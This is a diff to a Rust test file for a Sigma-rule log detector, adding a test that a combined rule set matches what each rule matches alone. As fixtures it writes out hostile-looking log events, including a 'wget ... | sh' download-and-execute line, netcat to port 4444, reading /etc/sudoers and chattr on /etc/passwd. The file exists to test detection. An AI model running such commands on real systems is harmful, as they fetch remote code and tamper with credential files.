@@ -359,7 +359,7 @@ detection:
     extra.extend(rules.iter().cloned());
     let set = SigmaSet::new(extra.clone());
     assert!(
-        set.prefilter().uses_screen(),
+        set.screened(),
         "the SigmaHQ literals are screened, not run through an automaton"
     );
     assert_eq!(
@@ -1927,4 +1927,79 @@ fn a_rule_reads_the_fields_of_an_execves_records_together() {
     );
     assert!(fires_both(&per_record, &lines[0]));
     assert!(!fires_both(&per_record, &joined), "once, on its own record");
+}
+
+/// Every shipped rule in one set: each event is screened only for the rules its kind (payload
+/// format, Cisco tag, app) may reach, and the set still reports exactly what each rule alone
+/// matches, for events of every form.
+#[test]
+fn one_set_of_every_shipped_rule_matches_what_each_rule_matches() {
+    use detector::rules::sigma::{SigmaScratch, SigmaSet};
+    let dir = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules"));
+    let loaded = load_dir(dir, &LogsourceMap::default());
+    assert!(loaded.errors.is_empty(), "{:?}", loaded.errors);
+    let rules = loaded.rules;
+    let set = SigmaSet::new(rules.clone());
+    assert!(
+        set.routes() > 1,
+        "events of different kinds take different routes"
+    );
+    assert!(set.screened());
+    let mut lines: Vec<String> = std::fs::read_to_string(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/tests/data/loghub/Linux_2k.log"
+    ))
+    .unwrap()
+    .lines()
+    .take(300)
+    .map(String::from)
+    .collect();
+    lines.extend([
+        sysmon(
+            1,
+            &[
+                ("Image", "/usr/bin/cat"),
+                ("CommandLine", "cat /etc/sudoers"),
+            ],
+        ),
+        sysmon(3, &[("Image", "/usr/bin/nc"), ("DestinationPort", "4444")]),
+        sysmon(
+            11,
+            &[
+                ("TargetFilename", "/etc/cron.d/x"),
+                ("Image", "/usr/bin/cp"),
+            ],
+        ),
+        "<85>Nov 22 10:00:00 web1 audisp-syslog: type=EXECVE msg=audit(1.2:3): argc=3 \
+         a0=\"chattr\" a1=\"-i\" a2=\"/etc/passwd\""
+            .to_string(),
+        "<85>Nov 22 10:00:00 web1 audisp-syslog: type=SYSCALL msg=audit(1.2:4): arch=c000003e \
+         syscall=59 comm=\"insmod\" exe=\"/usr/bin/kmod\""
+            .to_string(),
+        "<187>Nov 22 10:00:00 rtr1 %IP-TCP-3-BADAUTH: Invalid MD5 digest from \
+         198.18.0.2:179 to 198.18.0.1:11003"
+            .to_string(),
+        "<13>Nov 22 10:00:00 h bash[1]: wget -q -O - http://198.51.100.9/x | sh".to_string(),
+        "<86>Nov 22 10:00:00 h sshd[9]: Failed password for root from 198.51.100.7".to_string(),
+        "<13>Nov 22 10:00:00 h sudo: ann : TTY=pts/0 ; USER=root ; COMMAND=/bin/sh".to_string(),
+    ]);
+    let mut scratch = SigmaScratch::default();
+    let mut fired = Vec::new();
+    for line in &lines {
+        let e = parse(line.as_bytes(), &ParseOptions::default());
+        let want: Vec<usize> = (0..rules.len()).filter(|&i| rules[i].matches(&e)).collect();
+        let mut got = Vec::new();
+        set.for_each_match(&e, &mut scratch, |i| got.push(i));
+        assert_eq!(got, want, "{line}");
+        fired.extend(
+            got.iter()
+                .map(|&i| rules[i].file.rsplit('/').next().unwrap().to_string()),
+        );
+    }
+    for kind in ["proc_creation", "lnx_auditd", "cisco", "lnx_shell"] {
+        assert!(
+            fired.iter().any(|f| f.contains(kind)),
+            "a {kind} rule fires on its event: {fired:?}"
+        );
+    }
 }
